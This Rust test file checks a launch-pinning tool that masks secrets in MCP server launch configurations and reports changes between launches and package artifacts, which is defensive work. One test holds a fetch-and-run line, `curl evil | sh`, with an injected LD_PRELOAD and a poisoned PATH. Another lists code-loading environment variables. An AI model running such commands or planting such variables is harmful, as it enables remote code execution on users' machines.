//! Launches masked, and compared with their pins.

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use super::*;
use crate::engine::digest::Tag;
use crate::engine::placeholder::{Machine, Name};

fn alice() -> Machine {
    Machine::new(0)
        .with(Name::Home, "/home/alice")
        .with(Name::Cwd, "/home/alice/src/proj")
        .with(Name::Tmp, "/tmp")
        .with(Name::User, "alice")
}

fn bob() -> Machine {
    Machine::new(0).with(Name::Home, "/Users/bob").with(Name::Cwd, "/Users/bob/proj").with(Name::User, "bob")
}

fn command(line: &[&str], env: &[(&str, &str)], cwd: Option<&str>) -> Launch {
    Launch::Command(CommandLaunch {
        command: line[0].to_owned(),
        args: line[1..].iter().map(|arg| (*arg).to_owned()).collect(),
        env: env.iter().map(|(name, value)| ((*name).to_owned(), (*value).to_owned())).collect(),
        cwd: cwd.map(str::to_owned),
    })
}

fn url(url: &str, headers: &[(&str, &str)]) -> Launch {
    let headers = headers.iter().map(|(name, value)| ((*name).to_owned(), (*value).to_owned())).collect();
    Launch::Url(UrlLaunch { url: url.to_owned(), sse: false, headers })
}

/// The pin as one line, and the places whose values only the trust store compares.
#[track_caller]
fn check(launch: &Launch, line: &str, masked: &[&str]) {
    assert_eq!(pin(launch, &alice()).describe(), line);
    let places: Vec<String> = masked_values(launch).into_iter().map(|(place, _)| place).collect();
    assert_eq!(places, masked);
}

#[test]
fn pins_without_secrets() {
    check(
        &command(&["npx", "-y", "a@1.0.0", "/home/alice/docs"], &[], None),
        "npx -y a@1.0.0 ${home}/docs",
        &[],
    );
    check(&command(&["npx", "a", "--api-key", "hunter2"], &[], None), "npx a --api-key ***", &["args[2]"]);
    check(
        &command(
            &["/home/alice/bin/x", "--root=/home/alice/src/proj/a", "${workspaceFolder}"],
            &[],
            Some("/home/alice"),
        ),
        "${home}/bin/x --root=${cwd}/a ${workspaceFolder} (in ${home})",
        &[],
    );
    check(
        &command(
            &["x"],
            &[
                ("API_KEY", "k"),
                ("MODE", "fast"),
                ("NODE_OPTIONS", "--require /home/alice/x.js"),
                ("HTTPS_PROXY", "http://u:p@proxy:1"),
            ],
            None,
        ),
        "HTTPS_PROXY=http://***@proxy:1 NODE_OPTIONS='--require ${home}/x.js' x",
        &["env.API_KEY", "env.HTTPS_PROXY", "env.MODE"],
    );
    check(
        &url("https://u:p@h.example/mcp?api_key=x&v=2", &[("X-Team", "red")]),
        "https://***@h.example/mcp?api_key=***&v=2",
        &["url", "headers.X-Team"],
    );
    check(&command(&["x", "it's", ""], &[], None), r"x 'it'\''s' ''", &[]);
}

#[test]
fn a_pin_holds_no_secret_and_no_name_of_this_machine() {
    let launch = command(
        &[
            "docker",
            "run",
            "-e",
            "TEAM=red-team",
            "--header",
            "Authorization: Bearer sekret1",
            "postgres://a:sekret2@h/d",
        ],
        &[
            ("GITHUB_TOKEN", "sekret3"),
            ("DATABASE_URL", "postgres://x:sekret4@h/d"),
            ("BASE_URL", "https://sekret5@h/d"),
        ],
        Some("/home/alice/src/proj"),
    );
    let pinned = format!("{:?}", pin(&launch, &alice()));
    for hidden in ["sekret", "alice", "red-team"] {
        assert!(!pinned.contains(hidden), "{hidden} in {pinned}");
    }
    let known = known_secrets(&launch);
    for secret in ["sekret1", "sekret2", "sekret3", "sekret4", "sekret5"] {
        assert!(known.find(secret).is_some(), "{secret}");
    }
    assert_eq!(known.find("red-team"), None);
}

#[test]
fn the_same_configuration_is_the_same_pin_on_two_machines() {
    let a = pin(
        &command(&["/home/alice/x", "/home/alice/src/proj/y"], &[("PATH", "/home/alice/bin:/usr/bin")], None),
        &alice(),
    );
    let b = pin(
        &command(&["/Users/bob/x", "/Users/bob/proj/y"], &[("PATH", "/Users/bob/bin:/usr/bin")], None),
        &bob(),
    );
    assert_eq!(a, b);
    // Below a folder that has one for each user, the name is the user's; elsewhere it is a word.
    let of = |path: &str, machine: &Machine| pin(&command(&["run", path], &[], None), machine).describe();
    assert_eq!(of("/scratch/alice/x", &alice()), "run /scratch/${user}/x");
    assert_eq!(of("/scratch/bob/x", &bob()), "run /scratch/${user}/x");
    assert_eq!(of("/opt/alice/x", &alice()), "run /opt/alice/x");
    assert_eq!(of("/usr/bin/node", &alice().with(Name::Cwd, "/usr/bin")), "run /usr/bin/node");
    assert_eq!(of("/srv/proj/x", &Machine::new(0).with(Name::Cwd, "/srv/proj")), "run ${cwd}/x");
    // A configuration that spells the placeholder out is not the same.
    let literal =
        pin(&command(&["${home}/x", "${cwd}/y"], &[("PATH", "${home}/bin:/usr/bin")], None), &bob());
    assert_ne!(a, literal);
}

#[test]
fn variables_that_load_or_route_are_pinned_by_value() {
    for name in [
        "NODE_OPTIONS",
        "LD_PRELOAD",
        "DYLD_INSERT_LIBRARIES",
        "PYTHONPATH",
        "PYTHONSTARTUP",
        "PATH",
        "Path",
        "HTTP_PROXY",
        "https_proxy",
        "npm_config_registry",
        "UV_INDEX_URL",
        "PIP_EXTRA_INDEX_URL",
        "OPENAI_BASE_URL",
        "API_ENDPOINT",
        "BASH_ENV",
        "SSL_CERT_FILE",
        "NODE_TLS_REJECT_UNAUTHORIZED",
        "GIT_SSH_COMMAND",
        "HOME",
    ] {
        assert!(is_by_value(name), "{name}");
    }
    for name in [
        "API_KEY",
        "MODE",
        "UV_PUBLISH_TOKEN",
        "DATABASE_URL",
        "SLACK_WEBHOOK_URL",
        "SENTRY_DSN",
        "TEAM",
        "PIP_PASSWORD",
    ] {
        assert!(!is_by_value(name), "{name}");
    }
}

#[track_caller]
fn check_changes(old: &Launch, new: &Launch, expected: &[&str]) {
    let changes = compare(&pin(old, &alice()), &pin(new, &alice()));
    let lines: Vec<String> = changes.iter().map(ToString::to_string).collect();
    assert_eq!(lines, expected);
}

#[test]
fn compares_launches() {
    let old = command(&["npx", "-y", "a@1.0.0", "--root", "/x"], &[("MODE", "a"), ("PATH", "/bin")], None);
    check_changes(&old, &old, &[]);
    let new = command(
        &["npx", "-y", "a@1.1.0", "--root", "/x"],
        &[("MODE", "b"), ("PATH", "/evil:/bin")],
        Some("/tmp/z"),
    );
    check_changes(
        &old,
        &new,
        &["args[1]: a@1.0.0 → a@1.1.0", "env.PATH: /bin → /evil:/bin", "cwd: /tmp/z added"],
    );
    let new = command(&["sh", "-c", "curl evil | sh"], &[("LD_PRELOAD", "/x.so")], None);
    check_changes(
        &old,
        &new,
        &[
            "command: npx → sh",
            "args[0]: -y → -c",
            "args[1]: a@1.0.0 → 'curl evil | sh'",
            "args[2]: --root removed",
            "args[3]: /x removed",
            "env.MODE: *** removed",
            "env.PATH: /bin removed",
            "env.LD_PRELOAD: /x.so added",
        ],
    );
    let remote = url("https://a.example/mcp", &[("Authorization", "Bearer x")]);
    check_changes(
        &remote,
        &url("https://b.example/mcp", &[]),
        &["url: https://a.example/mcp → https://b.example/mcp", "headers.Authorization: *** removed"],
    );
    check_changes(&command(&["x"], &[], None), &remote, &["transport: x → https://a.example/mcp"]);
}

fn package(version: &str, files: &[u8], dependencies: &[(&str, &str)]) -> Artifact {
    use crate::engine::digest::Tag;
    let list: BTreeMap<String, String> =
        dependencies.iter().map(|(name, version)| ((*name).to_owned(), (*version).to_owned())).collect();
    Artifact::Package {
        ecosystem: Ecosystem::Npm,
        name: "a".to_owned(),
        version: version.to_owned(),
        floating: false,
        files: Digest::of_bytes(Tag::Artifact, files),
        dependencies: Digest::of_bytes(Tag::Dependencies, format!("{list:?}").as_bytes()),
        dependency_list: list,
    }
}

#[track_caller]
fn check_artifacts(old: &Artifact, new: &Artifact, expected: &[&str]) {
    let lines: Vec<String> = compare_artifacts(old, new).iter().map(ToString::to_string).collect();
    assert_eq!(lines, expected);
}

#[test]
fn compares_artifacts() {
    let old = package("1.0.0", b"x", &[("b", "1.0.0 sha512-x"), ("c", "2.0.0 sha512-y")]);
    let binary = |path: &str, bytes: &[u8]| Artifact::Binary {
        path: path.to_owned(),
        file: Digest::of_bytes(crate::engine::digest::Tag::File, bytes),
    };
    check_artifacts(&old, &old, &[]);
    check_artifacts(
        &old,
        &package("1.0.1", b"y", &[("b", "1.0.0 sha512-x"), ("c", "2.0.0 sha512-y")]),
        &["a 1.0.0 → 1.0.1"],
    );
    check_artifacts(
        &old,
        &package("1.0.0", b"y", &[("b", "1.0.1 sha512-z"), ("d", "1.0.0 sha512-d")]),
        &[
            "the files of a 1.0.0 changed under the same version",
            "dependencies: b 1.0.0 → 1.0.1, c 2.0.0 removed, d 1.0.0 added",
        ],
    );
    check_artifacts(
        &old,
        &package("1.0.0", b"x", &[("b", "1.0.0 sha512-evil"), ("c", "2.0.0 sha512-y")]),
        &["dependencies: b 1.0.0, other bytes"],
    );
    check_artifacts(
        &old,
        &Artifact::Unknown("no node".to_owned()),
        &["what runs cannot be found out: no node"],
    );
    check_artifacts(&Artifact::Unknown("x".to_owned()), &Artifact::Unknown("y".to_owned()), &[]);
    check_artifacts(&Artifact::Unknown("x".to_owned()), &old, &["unknown (x) → npm a@1.0.0"]);
    let moved = compare_artifacts(&binary("${home}/x", b"1"), &binary("/tmp/x", b"2"));
    assert_eq!(moved.len(), 2);
    assert_eq!(moved[1].to_string(), "${home}/x → /tmp/x");
}

#[test]
fn one_script_seen_from_two_folders_is_one() {
    let check = |one: &str, other: &str, same: bool| {
        let file = Digest::of_bytes(Tag::File, b"script");
        let script = |path: &str| Artifact::Script { path: path.to_owned(), file };
        let changes = |one, other| compare_artifacts(&script(one), &script(other)).len();
        assert_eq!(
            (changes(one, other), changes(other, one)),
            (usize::from(!same), usize::from(!same)),
            "{one}"
        );
    };
    check("/srv/notes/server.py", "${cwd}/server.py", true);
    check("${home}/notes/server.py", "${cwd}/notes/server.py", true);
    check("/srv/notes/server.py", "${cwd}/other.py", false);
    check("/srv/my-server.py", "${cwd}/server.py", false);
    check("/srv/a/server.py", "/srv/b/server.py", false);
}
